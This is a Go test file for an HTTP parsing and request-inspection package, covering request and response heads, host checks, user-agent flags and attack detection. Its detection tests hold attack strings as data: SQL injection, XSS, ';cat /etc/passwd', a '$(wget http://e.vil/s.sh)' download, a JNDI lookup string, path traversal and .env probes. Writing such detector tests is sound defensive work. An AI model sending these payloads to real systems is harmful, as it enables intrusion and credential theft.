package httpmsg

import (
	"net/netip"
	"strings"
	"testing"
)

// A request head as RFC 9112 §2.1 and §3 describe it: request line, then
// field lines (RFC 9110 §5), each ending in CRLF, then an empty line.
const reqHead = "GET /pub/WWW/TheProject.html?x=1 HTTP/1.1\r\n" +
	"Host: www.example.org:8080\r\n" +
	"User-Agent: curl/8.5.0\r\n" +
	"Authorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==\r\n" +
	"X-Folded: first\r\n" +
	" continued\r\n" + // obsolete line folding (RFC 9112 §5.2)
	"Content-Type: application/x-www-form-urlencoded\r\n" +
	"\r\n"

const respHead = "HTTP/1.1 301 Moved Permanently\r\n" +
	"Server: nginx/1.18.0\r\n" +
	"Content-Type: text/html; charset=UTF-8\r\n" +
	"Content-Disposition: attachment; filename=\"setup.EXE\"\r\n" +
	"\r\n" +
	"MZ\x90\x00"

func TestParseRequest(t *testing.T) {
	var h Head
	if st := ParseRequest([]byte(reqHead+"body"), &h); st != Complete {
		t.Fatalf("status %d", st)
	}
	for _, c := range []struct{ name, got, want string }{
		{"method", string(h.Method), "GET"},
		{"target", string(h.Target), "/pub/WWW/TheProject.html?x=1"},
		{"version", string(h.Version), "HTTP/1.1"},
		{"host", string(h.Host), "www.example.org:8080"},
		{"ua", string(h.UserAgent), "curl/8.5.0"},
		{"auth", string(h.Authorization), "Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ=="},
		{"ct", string(h.ContentType), "application/x-www-form-urlencoded"},
		{"body", reqHead + "body"[:0], (reqHead + "body")[:h.Len]},
	} {
		if c.got != c.want {
			t.Errorf("%s = %q, want %q", c.name, c.got, c.want)
		}
	}
	var names []string
	for f := h.Fields; len(f) > 0; {
		var name []byte
		name, _, f = NextField(f)
		if name != nil {
			names = append(names, string(name))
		}
	}
	if got := strings.Join(names, ","); got != "Host,User-Agent,Authorization,X-Folded,Content-Type" {
		t.Errorf("fields %s", got)
	}
}

func TestParseRequestInPieces(t *testing.T) {
	// Every prefix of a head is either incomplete or (at the end) complete,
	// never invalid, and the request line is known once it ended.
	b := []byte(reqHead)
	lineEnd := strings.Index(reqHead, "\r\n") + 2
	for i := 1; i <= len(b); i++ {
		var h Head
		st := ParseRequest(b[:i], &h)
		want := NeedMore
		if i == len(b) {
			want = Complete
		}
		if st != want {
			t.Fatalf("prefix %d: status %d, want %d", i, st, want)
		}
		if h.LineComplete != (i >= lineEnd) {
			t.Fatalf("prefix %d: line complete %v", i, h.LineComplete)
		}
	}
}

func TestParseRequestForms(t *testing.T) {
	for _, tc := range []struct {
		in             string
		st             Status
		method, target string
	}{
		{"CONNECT apache.org:443 HTTP/1.1\r\nHost: apache.org:443\r\n\r\n", Complete, "CONNECT", "apache.org:443"},
		{"GET http://example.com/x HTTP/1.0\n\n", Complete, "GET", "http://example.com/x"}, // bare LF, absolute form
		{"GET                  /aaaa HTTP/1.1\r\n\r\n", Complete, "GET", "/aaaa"},
		{"OPTIONS sip:bob@example.com SIP/2.0\r\n\r\n", Invalid, "OPTIONS", ""},
		{"DESCRIBE rtsp://cam/stream RTSP/1.0\r\n\r\n", Invalid, "DESCRIBE", ""},
		{"GET /x HTTP/d.1\r\n\r\n", Complete, "GET", "/x"}, // a mangled version is still HTTP's
		{"GET /x\r\n\r\n", Invalid, "GET", ""},
		{"\x16\x03\x01\x02\x00", Invalid, "", ""},
		{"POST", NeedMore, "POST", ""},
	} {
		var h Head
		st := ParseRequest([]byte(tc.in), &h)
		if st != tc.st || string(h.Method) != tc.method || tc.st == Complete && string(h.Target) != tc.target {
			t.Errorf("%q: status %d method %q target %q", tc.in, st, h.Method, h.Target)
		}
	}
}

func TestParseResponse(t *testing.T) {
	var h Head
	b := []byte(respHead)
	if st := ParseResponse(b, &h); st != Complete {
		t.Fatalf("status %d", st)
	}
	if h.StatusCode != 301 || string(h.Reason) != "Moved Permanently" || string(h.Server) != "nginx/1.18.0" {
		t.Errorf("got %d %q %q", h.StatusCode, h.Reason, h.Server)
	}
	if string(b[h.Len:]) != "MZ\x90\x00" {
		t.Errorf("body %q", b[h.Len:])
	}
	for _, tc := range []struct {
		in   string
		st   Status
		code int
	}{
		{"HTTP/1.0 200 OK\r\n", NeedMore, 200},
		{"HTTP/1.1 404", NeedMore, 404},
		{"HTTP/1.", NeedMore, 0},
		{"HT", NeedMore, 0},
		{"HTTP/1.1 200\r\n\r\n", Complete, 200}, // the reason may be empty
		{"HTTP/2 200\r\n\r\n", Invalid, 0},
		{"HTTP/1.1 2000 OK\r\n\r\n", Invalid, 0},
		{"SSH-2.0-OpenSSH_9.6\r\n", Invalid, 0},
	} {
		var h Head
		if st := ParseResponse([]byte(tc.in), &h); st != tc.st || h.StatusCode != tc.code {
			t.Errorf("%q: status %d code %d", tc.in, st, h.StatusCode)
		}
	}
}

func TestPrefixes(t *testing.T) {
	for _, tc := range []struct {
		in             string
		known, partial bool
	}{
		{"GET /", true, false}, {"GE", false, true}, {"PROPFIND /x", true, false},
		{"GETX /", false, false}, {"get /", false, false}, {"", false, true},
	} {
		if k, p := MethodPrefix([]byte(tc.in)); k != tc.known || p != tc.partial {
			t.Errorf("MethodPrefix(%q) = %v %v", tc.in, k, p)
		}
	}
	if y, _ := ResponsePrefix([]byte("HTTP/1.1 200")); !y {
		t.Error("response not recognised")
	}
	if _, p := ResponsePrefix([]byte("HTT")); !p {
		t.Error("response prefix not partial")
	}
}

func TestHostHelpers(t *testing.T) {
	for in, want := range map[string]string{
		"www.example.org:8080": "www.example.org", "[2001:db8::1]:80": "2001:db8::1",
		"example.com.": "example.com", "10.0.0.1": "10.0.0.1", "host:abc": "host:abc", "%s 2.20.3.5": "%s",
	} {
		if got := string(HostName([]byte(in))); got != want {
			t.Errorf("HostName(%q) = %q", in, got)
		}
	}
	if a, ok := NumericIPv4([]byte("205.174.165.68")); !ok || a != netip.MustParseAddr("205.174.165.68") {
		t.Error("dotted quad not parsed")
	}
	for _, s := range []string{"1.2.3", "1.2.3.4.5", "256.1.1.1", "1.2.3.a", "01234.1.1.1", "example.com"} {
		if _, ok := NumericIPv4([]byte(s)); ok {
			t.Errorf("%q taken for an address", s)
		}
	}
	if string(Authority([]byte("http://proxy.example:3128/a?b"))) != "proxy.example:3128" || Authority([]byte("/a")) != nil {
		t.Error("Authority")
	}
	if !ValidHost([]byte("a-b_c.example:80")) || !ValidHost([]byte("[::1]:80")) || ValidHost([]byte("%s")) || ValidHost([]byte("a b")) {
		t.Error("ValidHost")
	}
}

func TestCheckUserAgent(t *testing.T) {
	for _, tc := range []struct {
		ua   string
		want UAFlags
	}{
		{"Mozilla/5.0 (X11; Linux x86_64; rv:81.0) Gecko/20100101 Firefox/81.0", 0},
		{"curl/8.4.0", 0},
		{"pwtyyEKzNtGatwnJjmCcBLbOveCVpc", UASuspicious}, // random letters, 30 % upper case
		{"abcdefghijklmnop", 0},                          // all lower case: a word, not a token
		{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", UACrawler},
		{"Anonymous Crawler/1.0", UACrawler},
		{"${jndi:ldap://x/a}", UASuspicious},
		{"jndi:ldap://evil/x", UAExploit},
		{"Go", UASuspicious},
		{"test-agent/1.0", UASuspicious},
		{"gopher://x", UASuspicious},
		{"<?php system($x) ?>", UASuspicious},
		{strings.Repeat("a/1 ", 65), UASuspicious},
	} {
		if got := CheckUserAgent([]byte(tc.ua)); got != tc.want {
			t.Errorf("%q: %b, want %b", tc.ua, got, tc.want)
		}
	}
}

func TestObsoleteServer(t *testing.T) {
	for s, want := range map[string]bool{
		"Apache/2.2.22 (Ubuntu)": true, "Apache/2.4.18 (Ubuntu)": false, "Apache/2.2.3 (CentOS)": true,
		"nginx/1.10.3": true, "nginx/1.6.3": true, "nginx/1.22.0": false, "nginx/1.25.3": false,
		"Apache": false, "nginx/1.2": false, "Microsoft-IIS/4.0": false, "gws": false, "apache/1.3.41": true,
	} {
		if got := ObsoleteServer([]byte(s)); got != want {
			t.Errorf("ObsoleteServer(%q) = %v", s, got)
		}
	}
}

func TestContent(t *testing.T) {
	for ct, want := range map[string]ContentKind{
		"application/x-dosexec": ContentExecutable, "Application/Octet-Stream": ContentBinary,
		"application/octet-stream; charset=binary": ContentBinary, "text/html; charset=utf-8": ContentText,
		"application/json": ContentText, "audio/mpeg": ContentMedia, "application/zip": ContentArchive,
		"image/png": ContentOther, "": ContentOther,
	} {
		if got := Kind([]byte(ct)); got != want {
			t.Errorf("Kind(%q) = %d", ct, got)
		}
	}
	for cd, want := range map[string]string{
		`attachment; filename="phn34ycjtghm.exe"`: "phn34ycjtghm.exe",
		`attachment; FileName=report.pdf; size=3`: "report.pdf",
		`inline`: "", `attachment; filename*=UTF-8''a.exe`: "",
	} {
		if got := string(Filename([]byte(cd))); got != want {
			t.Errorf("Filename(%q) = %q", cd, got)
		}
	}
	if !ExecutableName([]byte("setup.EXE")) || ExecutableName([]byte("exe")) || ExecutableName([]byte("song.mp3")) {
		t.Error("ExecutableName")
	}
	if !ExecutableMagic([]byte("MZ\x90\x00")) || !ExecutableMagic([]byte("\x7fELF\x02")) || ExecutableMagic([]byte("<html>")) {
		t.Error("ExecutableMagic")
	}
	if !TextLooksBinary([]byte("\x00\x01\x02\x03")) || TextLooksBinary([]byte("\x1f\x8b\x08\x00zz")) || TextLooksBinary([]byte("<!DO")) {
		t.Error("TextLooksBinary")
	}
	if !SuspiciousField([]byte("Osversion")) || !SuspiciousField([]byte("S")) || SuspiciousField([]byte("Server")) {
		t.Error("SuspiciousField")
	}
	if !CredentialScheme([]byte("Basic dXNlcjpwYXNz")) || CredentialScheme([]byte("Bearer eyJ")) {
		t.Error("CredentialScheme")
	}
}

func TestCheckTarget(t *testing.T) {
	for _, tc := range []struct {
		target string
		want   Threat
	}{
		// Attacks, as scanners and the DVWA test captures send them.
		{"/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+null%2C+table_name+from+information_schema.tables%23&Submit=Submit", ThreatSQLi},
		{"/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1%23&Submit=Submit", ThreatSQLi},
		{"/login?user=admin'--&pass=x", ThreatSQLi},
		{"/item?id=1 OR 1=1", ThreatSQLi},
		{"/item?id=1;DROP TABLE users", ThreatSQLi},
		{"/item?id=1 AND SLEEP(5)", ThreatSQLi},
		{"/s?q=x' or 'a'='a", ThreatSQLi},
		{"/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ThreatXSS},
		{"/search?q=<img src=x onerror=alert(1)>", ThreatXSS},
		{"/r?next=javascript:alert(document.cookie)", ThreatXSS},
		{`/p?name=x" onmouseover="alert(1)`, ThreatXSS},
		{"/ping?host=127.0.0.1;cat /etc/passwd", ThreatRCE | ThreatTraversal},
		{"/cgi-bin/x?c=%7Cid", ThreatRCE},
		{"/x?a=$(wget http://e.vil/s.sh)", ThreatRCE},
		{"/x?a=${jndi:ldap://e.vil/a}", ThreatRCE},
		{"/index.php?<php>system('id')", ThreatRCE},
		{"/shell?cd+/tmp", ThreatRCE},
		{"/static/../../../etc/passwd", ThreatTraversal},
		{"/download?file=..%2F..%2Fwin.ini", ThreatTraversal},
		{"/.env", ThreatDotFile},
		{"/.git/config", ThreatDotFile},
		{"http://example.com/.env", ThreatDotFile},
		// Benign requests, including near misses.
		{"/", 0},
		{"/.well-known/acme-challenge/abc", 0},
		{"/dv/vulnerabilities/sqli/?id=1%27&Submit=Submit", 0}, // a lone quote is not yet an injection
		{"/search?q=rock+%27n%27+roll+and+more", 0},
		{"/search?q=O'Neil or Smith", 0},
		{"/search?q=wait...+what", 0},
		{"/search?q=cats;dogs", 0},
		{"/search?q=a+%3C+b+and+c+%3E+d", 0},
		{"/select?union=1&order=asc", 0},
		{"/api/v1/items?sort=-created&limit=10", 0},
		{"/gnutella/thex/v1?urn:tree:tiger/:3WMUS6WM2ZC7XIPRQDKXWHHJRV4IKYC4OX4ELCA&depth=9&ed2k=1", 0},
		{"/json/1.3/registerDevice", 0},
		{"/collect?v=1&t=pageview&dl=http%3A%2F%2Fexample.com%2F&ul=en-us", 0},
	} {
		if got := CheckTarget([]byte(tc.target)); got != tc.want {
			t.Errorf("%q: %05b, want %05b", tc.target, got, tc.want)
		}
	}
}

func TestNoAllocations(t *testing.T) {
	req, resp := []byte(reqHead), []byte(respHead)
	target := []byte("/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+null%23&Submit=Submit")
	var h Head
	n := testing.AllocsPerRun(100, func() {
		ParseRequest(req, &h)
		CheckUserAgent(h.UserAgent)
		CheckTarget(target)
		ParseResponse(resp, &h)
		ObsoleteServer(h.Server)
		Kind(h.ContentType)
		Filename(h.ContentDisposition)
	})
	if n != 0 {
		t.Errorf("%v allocations", n)
	}
}

func BenchmarkParseRequest(b *testing.B) {
	req := []byte(reqHead)
	var h Head
	b.ReportAllocs()
	b.SetBytes(int64(len(req)))
	for b.Loop() {
		if ParseRequest(req, &h) != Complete {
			b.Fatal("incomplete")
		}
	}
}

func BenchmarkCheckTarget(b *testing.B) {
	t := []byte("/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+null%2C+table_name+from+information_schema.tables%23&Submit=Submit")
	b.ReportAllocs()
	for b.Loop() {
		CheckTarget(t)
	}
}

func FuzzParseRequest(f *testing.F) {
	f.Add([]byte(reqHead))
	f.Add([]byte("CONNECT apache.org:443 HTTP/1.1\r\nHost: apache.org\r\n\r\n"))
	f.Add([]byte("GET http://x/y HTTP/1.0\nA:\n b\n\n"))
	f.Add([]byte("GET foo://u@x:1/y HTTP/1.1\r\nHost :z\r\nHost:\r\n\tw\r\n\r\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		var h Head
		st := ParseRequest(b, &h)
		if st == Complete && (h.Len > len(b) || h.Len <= 0 || !h.LineComplete) {
			t.Fatalf("complete head with length %d of %d", h.Len, len(b))
		}
		for f := h.Fields; len(f) > 0; {
			_, _, f = NextField(f)
		}
		CheckTarget(h.Target)
		CheckUserAgent(h.UserAgent)
		TargetHost(h.Target)
		HostName(h.LooseHost)
	})
}

func FuzzParseResponse(f *testing.F) {
	f.Add([]byte(respHead))
	f.Add([]byte("HTTP/1.0 200 OK\r\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		var h Head
		if ParseResponse(b, &h) == Complete {
			if h.Len > len(b) || h.StatusCode < 0 || h.StatusCode > 999 {
				t.Fatalf("len %d code %d", h.Len, h.StatusCode)
			}
			TextLooksBinary(b[h.Len:])
			ExecutableMagic(b[h.Len:])
		}
		ObsoleteServer(h.Server)
		Kind(h.ContentType)
		Filename(h.ContentDisposition)
	})
}

func FuzzCheckTarget(f *testing.F) {
	f.Add([]byte("/a?id=1%27+and+1%3D1%23"))
	f.Add([]byte("/s?q=<img src=x onerror=alert(1)>"))
	f.Add([]byte("/p?c=;cat /etc/passwd&x=%zz%"))
	f.Fuzz(func(t *testing.T, b []byte) {
		CheckTarget(b)
		HostName(b)
		NumericIPv4(b)
		ValidHost(b)
	})
}
